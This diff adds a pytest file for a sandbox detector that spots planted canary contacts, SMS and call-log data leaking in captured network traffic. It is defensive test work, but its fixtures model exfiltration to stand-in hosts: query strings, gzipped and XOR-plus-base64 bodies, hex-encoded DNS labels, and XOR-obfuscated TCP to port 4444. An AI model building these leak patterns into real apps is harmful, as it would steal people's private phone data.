@@ -1,0 +1,248 @@
+"""End-to-end detection over synthetic artifacts: sources -> scanner -> findings."""
+
+from __future__ import annotations
+
+import base64
+import functools
+import gzip
+import hashlib
+import json
+import random
+from pathlib import Path
+
+import phonenumbers
+from detect_helpers import (
+    DEVICE,
+    FAKENET,
+    Conversation,
+    dns_query,
+    flow_record,
+    pcap_bytes,
+    timed,
+    udp_frame,
+    write_jsonl,
+)
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sandbox.canary import CanarySet, CanarySpec, generate
+from sandbox.clock import ClockMapping
+from sandbox.detect.findings import Detector, Finding, detect
+from sandbox.detect.sources import Payload, iter_payloads
+from sandbox.monitor.events import Connect, Exec
+from sandbox.monitor.summary import summarize
+
+T0 = 1_700_000_000.0
+IDENTITY = ClockMapping.identity()
+
+
+@functools.lru_cache(maxsize=1)
+def canaries() -> CanarySet:
+    return generate(CanarySpec(seed=7, analysis_id="detect-findings", contacts=4, sms=4, calls=4))
+
+
+@functools.lru_cache(maxsize=1)
+def detector() -> Detector:
+    return Detector(canaries())
+
+
+def run(tmp_path: Path, *, frames: list[bytes] | None = None, flows: list[dict[str, object]] | None = None,
+        dns: list[dict[str, object]] | None = None, step: float = 0.01,
+        mapping: ClockMapping = IDENTITY, syscalls: object = None) -> list[Finding]:
+    fk = tmp_path / "fakenet"
+    fk.mkdir(exist_ok=True)
+    write_jsonl(fk / "flows.jsonl", flows or [])
+    write_jsonl(fk / "dns.jsonl", dns or [])
+    pcap = None
+    if frames:
+        pcap = tmp_path / "bridge.pcap"
+        pcap.write_bytes(pcap_bytes(timed(frames, start=T0, step=step)).getvalue())
+    payloads = iter_payloads(DEVICE, pcap=pcap, fakenet_dir=fk)
+    return detector().detect(payloads, mapping, syscalls)  # type: ignore[arg-type]
+
+
+def items_with_number(e164: str) -> set[tuple[str, str]]:
+    cs = canaries()
+    return ({("contact", c.id) for c in cs.contacts if c.number == e164}
+            | {("sms", s.id) for s in cs.sms if s.address == e164}
+            | {("call_log", c.id) for c in cs.calls if c.number == e164})
+
+
+def digits(e164: str) -> str:
+    n = phonenumbers.parse(e164)
+    return "".join(ch for ch in phonenumbers.format_number(n, phonenumbers.PhoneNumberFormat.NATIONAL)
+                   if ch.isdigit())
+
+
+def by_item(findings: list[Finding]) -> dict[tuple[str, str, str], Finding]:
+    out = {(f.canary.kind, f.canary.item_id, f.canary.field): f for f in findings}
+    assert len(out) == len(findings), "one finding per item and field"
+    return out
+
+
+def test_phone_number_in_an_http_query_string(tmp_path: Path) -> None:
+    number = canaries().contacts[0].number
+    flow = flow_record("q1", T0, host="collector.example", method="GET",
+                       path=f"/track?tel={digits(number)}&v=2&t=1700000000")
+    found = by_item(run(tmp_path, flows=[flow]))
+    assert {(k, i) for k, i, _ in found} == items_with_number(number)
+    f = found["contact", canaries().contacts[0].id, "number"]
+    assert (f.canary.form, f.encoding, f.channel) == ("digits", (), "http")
+    assert f.destination.to_dict() == {"host": "collector.example", "ip": FAKENET, "port": 80,
+                                       "host_source": "http-host"}
+    (ev,) = f.evidence
+    assert (ev.artifact, ev.locator, ev.offset) == ("flows", "q1", len("GET /track?tel="))
+    assert f"«{digits(number)}»" in ev.excerpt
+    json.dumps([x.to_dict() for x in found.values()])  # report-ready
+
+
+def test_gzipped_json_body_in_a_decrypted_flow(tmp_path: Path) -> None:
+    sms = canaries().sms[1]
+    body = gzip.compress(json.dumps({"messages": [{"from": sms.address, "text": sms.body}]}).encode())
+    flow = flow_record("g1", T0, host="api.tracker.example", path="/v1/sms", body=body, tls=True,
+                       headers=[["Content-Encoding", "gzip"], ["Content-Type", "application/json"]])
+    found = by_item(run(tmp_path, flows=[flow]))
+    f = found["sms", sms.id, "body"]
+    assert (f.canary.form, f.canary.value, f.channel) == ("body_full", sms.body, "https")
+    assert f.encoding[0] == "gzip"
+    assert len(f.evidence) == 1  # token and windows are inside the full body: collapsed
+    assert found["sms", sms.id, "address"].encoding[0] == "gzip"
+
+
+def test_adups_style_report(tmp_path: Path) -> None:
+    sms = canaries().sms[2]
+    key = b"adups"
+    obfuscated = bytes(b ^ key[i % len(key)] for i, b in enumerate(sms.body.encode()))
+    doc = {"tell": sms.address, "keyword": base64.b64encode(obfuscated).decode(),
+           "md5": hashlib.md5(sms.body.encode()).hexdigest().upper(), "type": "sms"}
+    flow = flow_record("a1", T0, host="bigdata.adups.example", path="/collect", body=json.dumps(doc).encode(),
+                       headers=[["Content-Type", "application/json"]])
+    found = by_item(run(tmp_path, flows=[flow]))
+    address = found["sms", sms.id, "address"]
+    assert (address.canary.form, address.encoding) == ("e164", ())
+    body = found["sms", sms.id, "body"]
+    assert (body.canary.form, body.encoding) == ("body_full", ("md5-hex-upper",))
+    assert {(k, i) for k, i, f in found if f == "address" or f == "number"} == items_with_number(sms.address)
+
+
+def test_dns_label_exfiltration_split_across_labels(tmp_path: Path) -> None:
+    call = canaries().calls[0]
+    hexed = call.number.encode().hex()
+    name = f"{hexed[:10]}.{hexed[10:]}.q.exfil.example"
+    frames = [udp_frame(DEVICE, 5300, FAKENET, 53, dns_query(name))]
+    log = [{"ts": T0 + 0.001, "client": f"{DEVICE}:5300", "name": name, "type": "A", "proto": "udp", "id": 1}]
+    found = by_item(run(tmp_path, frames=frames, dns=log))
+    f = found["call_log", call.id, "number"]
+    assert (f.channel, f.encoding, f.canary.form) == ("dns", ("hex",), "e164")
+    assert (f.destination.host, f.destination.ip, f.destination.port) == (name, FAKENET, 53)
+    assert {e.artifact for e in f.evidence} == {"pcap", "dns"}  # one leak, two artifacts, one finding
+    assert f.evidence[0].artifact == "pcap"
+
+
+def test_raw_tcp_with_single_byte_xor_split_across_segments(tmp_path: Path) -> None:
+    contact = canaries().contacts[1]
+    clear = b"\x00\x10name=" + contact.display_name.encode() + b";ok"
+    frames = Conversation(41000, "198.51.100.7", 4444).stream(bytes(b ^ 0x5A for b in clear), segment=5).frames
+    found = by_item(run(tmp_path, frames=frames))
+    f = found["contact", contact.id, "name"]
+    assert (f.channel, f.encoding, f.canary.form) == ("tcp", ("xor-0x5a",), "name_full")
+    assert (f.destination.ip, f.destination.port, f.destination.host) == ("198.51.100.7", 4444, None)
+    assert contact.display_name in f.evidence[0].excerpt  # shown decoded
+
+
+def test_benign_update_check_yields_nothing(tmp_path: Path) -> None:
+    req = (b"GET /ota/check?model=HP-1&build=QP1A.190711.020&serial=0123456789ABCDEF&ts=1700000000 HTTP/1.1\r\n"
+           b"Host: update.vendor.example\r\nUser-Agent: OtaClient/2.1\r\n\r\n")
+    frames = [udp_frame(DEVICE, 5301, FAKENET, 53, dns_query("update.vendor.example"))]
+    frames += Conversation(41001, FAKENET, 80).stream(req).frames
+    frames += Conversation(41002, FAKENET, 443).stream(random.Random(9).randbytes(5000)).frames
+    flow = flow_record("u1", T0 + 0.05, host="update.vendor.example", method="GET",
+                       path="/ota/check?model=HP-1&build=QP1A.190711.020", client=f"{DEVICE}:41001",
+                       response_body=json.dumps({"update": False, "sms": canaries().sms[0].body}).encode())
+    assert run(tmp_path, frames=frames, flows=[flow]) == []  # the response's canary never counts
+
+
+def test_one_leak_in_pcap_and_flow_is_one_finding(tmp_path: Path) -> None:
+    sms = canaries().sms[3]
+    body = json.dumps({"body": sms.body}).encode()
+    req = (f"POST /up HTTP/1.1\r\nHost: collector.example\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
+    frames = Conversation(41003, FAKENET, 80).stream(req, segment=40).frames
+    flow = flow_record("d1", T0 + 0.03, host="collector.example", path="/up", body=body,
+                       client=f"{DEVICE}:41003", headers=[["Content-Length", str(len(body))]])
+    found = by_item(run(tmp_path, frames=frames, flows=[flow]))
+    f = found["sms", sms.id, "body"]
+    assert [e.artifact for e in f.evidence] == ["flows", "pcap"]  # the flow is primary
+    assert f.channel == "http" and f.destination.host == "collector.example"
+    assert f.host_time == min(e.host_time for e in f.evidence)
+
+
+def test_https_leak_comes_from_the_decrypted_flow(tmp_path: Path) -> None:
+    contact = canaries().contacts[2]
+    frames = Conversation(41004, FAKENET, 443).stream(random.Random(2).randbytes(3000)).frames
+    flow = flow_record("h1", T0 + 0.02, host="api.tracker.example", path="/c", tls=True,
+                       body=json.dumps({"email": contact.email}).encode(), client=f"{DEVICE}:41004")
+    found = by_item(run(tmp_path, frames=frames, flows=[flow]))
+    f = found["contact", contact.id, "email"]
+    assert (f.channel, [e.artifact for e in f.evidence]) == ("https", ["flows"])
+
+
+def test_the_same_upload_an_hour_later_is_a_second_finding(tmp_path: Path) -> None:
+    contact = canaries().contacts[3]
+    flows = [flow_record(f"r{i}", T0 + i * 3600, host="collector.example", path="/p",
+                         body=contact.display_name.encode()) for i in range(2)]
+    found = run(tmp_path, flows=flows)
+    assert [(f.canary.item_id, f.host_time) for f in found] == [(contact.id, T0), (contact.id, T0 + 3600)]
+
+
+def test_digits_only_forms_need_non_digit_boundaries() -> None:
+    number = canaries().calls[1].number
+    d = digits(number)
+    det = detector()
+
+    def found(data: bytes) -> set[str]:
+        p = Payload("tcp", data, None, "192.0.2.1", 1, T0, "pcap", "x")
+        return {m.form.form for m in det.matches(p) if m.form.item_id == canaries().calls[1].id}
+
+    assert found(f"id=9{d}7;".encode()) == set()
+    assert found(f"a=9{d}7;b={d};".encode()) == {"digits"}  # a later, bounded copy counts
+    assert found(base64.b64encode(f"<{d}>".encode())) == {"digits"}
+    assert found(base64.b64encode(f"9{d}7".encode())) == set()
+    assert found(hashlib.md5(d.encode()).hexdigest().encode()) == {"digits"}  # a digest needs no boundary
+
+
+def test_process_attribution_and_device_time(tmp_path: Path) -> None:
+    contact = canaries().contacts[0]
+    summary = summarize([
+        Exec(700, T0 - 5, "/system/bin/sysoper", ("sysoper", "--upload")),
+        Connect(700, T0 - 0.01, "AF_INET", FAKENET, 80, True, False, 9, "TCP"),
+    ])
+    flow = flow_record("p1", T0, host="collector.example", path="/c", body=contact.number.encode())
+    mapping = ClockMapping.linear(T0, 1_800_000_000.0, 60.0)
+    (f, *_) = [x for x in run(tmp_path, flows=[flow], mapping=mapping, syscalls=summary)
+               if x.canary.item_id == contact.id]
+    assert f.process is not None and (f.process.pid, f.process.name) == (700, "sysoper")
+    assert f.process.argv == ("sysoper", "--upload")
+    assert f.device_time == mapping.device_iso(T0) and f.device_time.startswith("2027-01-15")
+    assert f.to_dict()["process"] == f.process.to_dict()
+
+
+def test_detect_function_builds_its_own_scanner() -> None:
+    email = canaries().contacts[1].email
+    assert email is not None
+    p = Payload("udp", f"x={email}".encode(), None, "192.0.2.2", 9, T0, "pcap", "frame 1")
+    (f,) = detect(canaries(), [p], IDENTITY, None)
+    assert (f.canary.field, f.channel, f.process) == ("email", "udp", None)
+
+
+_TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=300)
+
+
+@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.one_of(st.binary(max_size=2000), _TEXT.map(str.encode),
+                      st.lists(_TEXT, max_size=8).map(lambda xs: "&".join(xs).encode()),
+                      st.binary(max_size=600).map(base64.b64encode),
+                      st.binary(max_size=600).map(gzip.compress)),
+       channel=st.sampled_from(["http", "https", "tcp", "udp", "dns"]))
+def test_random_non_canary_traffic_never_yields_findings(data: bytes, channel: str) -> None:
+    p = Payload(channel, data, None, "192.0.2.3", 80, T0, "pcap", "random")  # type: ignore[arg-type]
+    assert detector().matches(p) == []
